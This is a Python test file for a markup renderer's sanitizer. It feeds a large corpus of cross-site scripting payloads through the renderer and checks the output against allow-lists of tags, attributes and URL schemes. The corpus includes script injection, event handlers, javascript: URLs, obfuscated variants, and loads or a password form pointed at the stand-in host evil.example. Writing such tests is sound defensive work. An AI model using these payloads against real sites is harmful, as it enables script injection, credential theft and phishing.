"""No text that anybody can type makes a browser run anything or load anything from elsewhere."""

import re
from html import escape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from myplatform.markup import Picture, Resolved, render

CORPUS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src=x oNeRrOr = 'alert(1)' >
<img/src="x"/onerror=alert(1)>
<img src="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="vbscript:x">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
[x](javascript:alert(1))
[x](javascript&colon;alert(1))
[x](<java script:alert(1)>)
[x](data:text/html,<script>alert(1)</script>)
![x](data:image/svg+xml;base64,PHN2Zy8+)
![x](javascript:alert(1))
[x]: javascript:alert(1)
<javascript:alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<style>body{background:url(//evil.example)}</style>
<p style="background:url(javascript:alert(1))">x</p>
<div style="position:fixed;inset:0">x</div>
<iframe src="//evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="x"></object><embed src="x">
<form action="//evil.example"><input name=password><button>Sign in</button></form>
<input type="text" name="q" autofocus onfocus=alert(1)>
<input type="image" src="//evil.example/x" formaction="//evil.example">
<base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=//evil.example">
<link rel="stylesheet" href="//evil.example/x.css">
<video src=x onerror=alert(1)><source src=x></video><audio src=x>
<body onload=alert(1)>
<details open ontoggle=alert(1)>x</details>
<a href="x" target="_blank" ping="//evil.example" download>x</a>
<a id="config" name="config" href="x">x</a><form id=config><input name=x></form>
<img srcset="//evil.example/x 1x" src=x>
<td background="//evil.example/x">
<p class="btn btn-danger modal fixed" data-bs-toggle="modal" hx-get="/x" hx-on:click="alert(1)">x</p>
<template><img src=x onerror=alert(1)></template>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<textarea></textarea><img src=x onerror=alert(1)></textarea>
<title><img src=x onerror=alert(1)></title>
<!--><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
\uff1cscript\uff1ealert(1)\uff1c/script\uff1e
<scr\u0000ipt>alert(1)</scr\u0000ipt>
<\u0130mg src=x onerror=alert(1)>
\u202e<script>alert(1)</script>
<a href="\u2028javascript:alert(1)">x</a>
<a href="/\\evil.example">x</a>
<a href="\\\\evil.example">x</a>
<a href='x"onmouseover="alert(1)'>x</a>
[x](x"onmouseover="alert(1))
[x](y 'a"onmouseover="alert(1)')
![x" onerror="alert(1)](y)
# <img src=x onerror=alert(1)> " onclick="alert(1)
```"onclick="alert(1)
code
```
```html
<script>alert(1)</script>
```
| <script>alert(1)</script> | `<img src=x onerror=alert(1)>` |
[^"><script>alert(1)</script>]
```note "><script>alert(1)</script>
```recent
in: "><img src=x onerror=alert(1)>
<pre><code class="language-recent"><script>alert(1)</script>in: /</code></pre>
<div class="block-note"><p class="alone"><img src=x><script>alert(1)</script></p></div></div></div>
![x](/x '"><script>alert(1)</script>')
""".strip().split("\n")

ALLOWED_TAGS = frozenset({
    "a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "details", "dfn",
    "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i",
    "img", "input", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "section", "small",
    "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr",
    "u", "ul", "var", "wbr",
})  # fmt: skip
ALLOWED_ATTRIBUTES = frozenset({
    "alt", "aria-label", "checked", "class", "colspan", "dir", "disabled", "height", "href", "id",
    "lang", "loading", "open", "rel", "role", "rowspan", "scope", "sizes", "src", "srcset", "start", "tabindex",
    "title", "type", "width",
})  # fmt: skip
ALLOWED_CLASSES = re.compile(
    r"(anchor|external|missing|zoom|code(-[a-z]+)?|callout(-\w+)?|good|warning|note|info|block-\w+|alone|table-scroll|contains-task-list|task-list-item|footnotes?(-\w+)?|text-(start|center|end)"
    r"|language-[\w+#.-]{1,40}| )*"
)


class Judge(HTMLParser):
    """Reads HTML as a browser would and refuses whatever is not on the list."""

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES, (tag, name)
            if name in ("href", "src"):
                self.check_url(tag, name, value)
            if name == "class":
                assert ALLOWED_CLASSES.fullmatch(value), value
            if name == "srcset":
                assert re.fullmatch(r"/small 960w, /x\S* 2000w", value), value
            if name == "role":
                assert value in ("region", "note")
            if name == "type":
                assert value == "checkbox"

    def check_url(self, tag, name, value):
        scheme = re.match(r"[\x00-\x20]*([A-Za-z][A-Za-z0-9+.-]*):", re.sub(r"[\t\r\n]", "", value))
        assert scheme is None or scheme[1].lower() in ("http", "https", "mailto", "tel"), value
        if name == "src":
            assert scheme is None, value
            assert not value.startswith(("//", "\\", "/\\")), value


RESOLVERS = (
    lambda t, i: None,
    lambda t, i: Resolved("/x", True),
    lambda t, i: Resolved("/x", True, Picture(2000, 1000, "/small", 960)),
    lambda t, i: Resolved("/x", False),
)


def judge(text):
    for resolve in RESOLVERS:
        out = str(render(text, resolve, block=lambda name, source, headings: escape(source)).html)
        Judge().feed(out)
        assert "<script" not in out.lower()


@pytest.mark.parametrize("text", CORPUS)
def test_corpus(text):
    judge(text)
    judge(f"before {text} after")
    judge(f"> {text}\n\n- {text}")
    judge(f"<div>{text}</div>")


def test_the_whole_corpus_at_once():
    judge("\n".join(CORPUS))
    judge("\n\n".join(CORPUS))


def test_links_that_leave_the_site_do_not_tell_it_where_they_were():
    out = str(
        render(
            "[a](https://example.org) [b](//example.org) <a href='/\\example.org'>c</a>", lambda t, i: None
        ).html
    )
    assert out.count('rel="noopener noreferrer"') == 3


def test_authors_choose_no_ids_but_those_of_footnotes():
    out = str(render('<a id="config">x</a> <p id="main">y</p> <i id="fn1">z</i>', lambda t, i: None).html)
    assert re.findall(r' id="(.*?)"', out) == ["fn1"]


fragments = (
    st.sampled_from(CORPUS)
    | st.text(max_size=20)
    | st.sampled_from(
        [
            "<",
            ">",
            '"',
            "'",
            "`",
            "[",
            "](",
            ")",
            "\n\n",
            "|",
            "<a href=",
            "<img src=",
            "&",
            "&#x",
            "\\",
            "<!--",
            "-->",
            "<b>",
            "</",
            "```note ",
            "```recent\n",
            "\n```\n",
            "\n| a |\n|---|\n",
        ]
    )
)


@given(st.lists(fragments, max_size=12).map("".join))
def test_mixtures(text):
    judge(text)
